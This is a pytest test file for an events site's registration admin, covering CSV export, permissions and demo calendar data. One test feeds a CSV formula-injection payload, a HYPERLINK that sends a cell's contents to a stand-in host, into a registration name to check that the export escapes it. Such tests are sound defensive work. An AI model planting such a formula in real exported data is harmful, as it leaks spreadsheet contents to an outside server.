"""Editors see and export registrations in the admin; the demo calendar is complete."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from events.models import EventKind, EventPage, Registration, RegistrationStatus, SharedEvent
from events.wagtail_hooks import RegistrationViewSet
from tests.staff import sign_in

# Reads the seeded demo hub; drop this mark once the module builds its own data.
pytestmark = pytest.mark.demo


@pytest.fixture
def editor(hub):
    return get_user_model().objects.get(email="editor@example.org")


def test_editors_see_registrations(client, editor):
    sign_in(client, editor)
    response = client.get("/admin/event_registrations/")
    assert response.status_code == 200
    assert "Olena Kovalenko" in response.content.decode()


def test_editors_export_registrations_of_one_event_as_csv(client, editor):
    shared = SharedEvent.objects.filter(registrations__isnull=False).distinct().first()
    sign_in(client, editor)
    response = client.get("/admin/event_registrations/", {"export": "csv", "event": shared.pk})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    header, body = rows[0], rows[1:]
    columns = RegistrationViewSet.list_export
    assert len(header) == len(columns)
    assert len(body) == shared.registrations.count()
    emails = {row[columns.index("email")] for row in body}
    assert emails == set(shared.registrations.values_list("email", flat=True))
    assert {row[columns.index("event.title")] for row in body} == {shared.title}


def test_people_without_the_permission_cannot_export(client, hub):
    user = get_user_model().objects.get(email="translator@example.org")
    sign_in(client, user)
    response = client.get("/admin/event_registrations/", {"export": "csv"})
    assert response.status_code in (302, 403)


def test_demo_calendar_covers_what_the_browser_tests_visit(calendar):
    events = EventPage.objects.filter(locale=calendar.locale, content_type__model="eventpage")
    kinds = set(events.values_list("kind", flat=True))
    # Every kind but duty hours, which the calendar reads from the Council's schedule.
    assert kinds == set(EventKind.values) - {EventKind.DUTY_HOURS}
    assert events.filter(status="cancelled").exists()
    workshop = events.get(slug="warsztaty-cv-po-polsku")
    shared = SharedEvent.objects.get(translation_key=workshop.translation_key)
    statuses = list(shared.registrations.values_list("status", flat=True))
    assert statuses.count(RegistrationStatus.CONFIRMED) == workshop.capacity
    assert statuses.count(RegistrationStatus.WAITLISTED) >= 1
    october = events.get(slug="nocny-maraton-filmowy")
    assert october.start_local.utcoffset() != october.end_local.utcoffset()
    march = events.get(slug="wiosenny-bieg-integracyjny")
    assert (march.start_local.month, march.start_local.day) == (3, 28)
    for code in ("en", "uk"):
        assert workshop.get_translation_or_none(
            workshop.locale.__class__.objects.get(language_code=code)
        ), code
    assert Registration.objects.filter(email__endswith="@example.org").exists()


def test_registrations_csv_never_carries_a_spreadsheet_formula(client, editor, make_event):
    from events.registration import register

    page = make_event(registration_enabled=True, capacity=5)
    formula = '=HYPERLINK("http://example.org/?x="&A1,"x")'
    register(page, name=formula, email="formula@example.org", organisation="+48 58 000")
    register(page, name="Anna Zielińska", email="anna@example.org")
    shared = SharedEvent.for_page(page)
    sign_in(client, editor)
    response = client.get("/admin/event_registrations/", {"export": "csv", "event": shared.pk})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    columns = RegistrationViewSet.list_export
    names = {row[columns.index("name")] for row in rows[1:]}
    assert names == {"'" + formula, "Anna Zielińska"}
    organisations = {row[columns.index("organisation")] for row in rows[1:]}
    assert "'+48 58 000" in organisations
